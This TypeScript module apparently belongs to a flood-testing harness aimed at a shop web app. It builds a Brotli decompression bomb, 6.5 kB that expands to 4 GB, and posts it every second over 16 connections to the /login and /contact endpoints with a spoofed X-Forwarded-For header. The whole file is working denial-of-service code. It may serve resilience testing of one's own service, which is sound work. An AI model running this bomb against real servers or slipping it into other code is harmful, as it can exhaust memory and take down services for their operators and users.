// Request bodies of 6.5 kB that decompress to 4 GB.
import { once } from 'node:events'
import { constants, createBrotliCompress } from 'node:zlib'
import { attack } from '../attack.ts'
import type { Flood } from '../flood.ts'

const gigabytes = 4
let bomb: Buffer

export const bombs: Flood = {
  name: 'bombs',
  title: '16 decompression bombs at once, again each second (6.5 kB of Brotli, 4 GB decompressed)',
  async prepare() {
    bomb = await buildBomb()
  },
  async attack({ shopUrl }, ends) {
    const headers = {
      'content-type': 'application/json',
      'content-encoding': 'br',
      'x-forwarded-for': '203.0.113.10',
    }
    const body = { body: bomb.toString('base64'), isBase64: true }
    const requests = ['/login', '/contact'].map((path) => ({ method: 'POST', path, headers, ...body }) as const)
    await attack({ url: shopUrl, requests, connections: 16, pause: 1_000 }, ends)
  },
}

async function buildBomb(): Promise<Buffer> {
  const packer = createBrotliCompress({ params: { [constants.BROTLI_PARAM_QUALITY]: 5 } })
  const parts: Buffer[] = []
  packer.on('data', (part) => parts.push(part))
  const spaces = Buffer.alloc(1 << 20, ' ')
  for (let megabyte = 0; megabyte < gigabytes * 1024; megabyte++) {
    if (!packer.write(spaces)) await once(packer, 'drain')
  }
  packer.end()
  await once(packer, 'end')
  return Buffer.concat(parts)
}
